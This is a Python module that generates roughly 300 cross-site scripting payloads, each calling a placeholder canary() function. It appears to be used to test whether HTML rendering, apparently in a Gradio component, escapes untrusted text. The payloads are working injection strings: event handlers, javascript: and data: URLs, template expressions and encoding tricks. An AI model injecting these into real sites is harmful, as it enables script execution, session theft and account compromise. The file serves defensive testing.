"""About 300 texts that run ``canary()`` in HTML that is not escaped."""

from __future__ import annotations

from itertools import product

CALL = "canary()"
# Ways out of the context of a text: an attribute, an element, a comment, raw text.
_EXITS = ("", '">', "'>", "`>", '" ', "' ", "-->", "]]>", "</textarea>", "</option></select>",
          "</script>", "</style>", "</title>", "</svg>", "</pre></details>")  # fmt: skip
_MARKUP = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<details open ontoggle={}><summary>x</summary></details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<object data=javascript:{}></object>",
    "<style onload={}></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
)
_ATTRIBUTES = (
    "onmouseover={} x=",
    "onfocus={} autofocus tabindex=0 x=",
    "onclick={} style=position:fixed;inset:0 x=",
    "onanimationstart={} style=animation-name:x x=",
    "onpointerenter={} x=",
)
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "\x01javascript:{}",
    "javascript&colon;{}", "data:text/html,<script>{}</script>", "vbscript:{}", "javascript://%0a{}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
)  # fmt: skip
# Expressions of template languages: Gradio renders gr.HTML through one.
_TEMPLATES = (
    "${{{}}}", "{{{{{}}}}}", "{{{{{{{}}}}}}}", "{{@html {}}}", "<%= {} %>", "#{{{}}}", "`${{{}}}`",
    "{{{{constructor.constructor('{}')()}}}}", "${{(()=>{})()}}", "\\${{{}}}",
)  # fmt: skip
_ODD = (
    "<scr\x00ipt>{}</script>", "<img\x0bsrc=x\x0conerror={}>", "<img src=x onerror=\n{}>",
    "\u003cimg src=x onerror={}\u003e", "&lt;img src=x onerror={}&gt;",
    "&#60;img src=x onerror={}>",
    "%3Cimg src=x onerror={}%3E", "＜img src=x onerror={}＞", "<<img src=x onerror={}>>",
    "<img/src=x/onerror={}>", "<a href=#x onfocus={} id=x tabindex=0>", "<x onclick={}>y</x>",
    "\ud7ff<img src=x onerror={}>", "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
)  # fmt: skip


def payloads() -> list[str]:
    """Return all payloads without duplicates."""
    texts = [exit_ + markup.format(CALL) for exit_, markup in product(_EXITS, _MARKUP)]
    texts += [
        f"{quote} {attribute.format(CALL)}{quote}"
        for quote, attribute in product(('"', "'", ""), _ATTRIBUTES)
    ]
    texts += [text.format(CALL) for text in (*_SCHEMES, *_TEMPLATES, *_ODD)]
    return list(dict.fromkeys(texts))
